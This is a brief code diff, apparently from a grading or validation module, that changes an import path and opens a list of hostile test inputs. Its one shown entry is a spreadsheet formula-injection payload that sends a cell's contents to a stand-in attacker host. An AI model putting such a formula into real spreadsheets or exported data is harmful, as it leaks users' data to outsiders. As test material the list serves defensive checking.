@@ -12,7 +12,7 @@ import re
 
 from markdown_it import MarkdownIt
 
-from grader import figure
+from grader.submission import figure
 
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
